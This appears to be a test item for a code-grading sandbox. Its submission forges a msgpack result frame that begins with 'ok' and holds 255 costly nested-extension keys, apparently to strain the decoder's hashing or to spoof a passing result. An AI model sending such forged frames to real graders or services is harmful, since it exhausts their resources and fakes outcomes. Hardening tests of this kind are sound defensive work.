"""Sends maps with tuples as keys, which are hashed item by item.

Added to: right answers
Score: 2
With: call_cpu_s=3
With: cell_cpu_s=5
With: submission_cpu_s=40
With: memory_mb=1024
"""

# %%
import msgpack

key = msgpack.packb(msgpack.ExtType(7, msgpack.packb([1] * 10_000)))
forged = frame(b"\x92\xa2ok\xde\x00\xff" + (key + b"\x00") * 255)


def double(x):
    instead(forged)
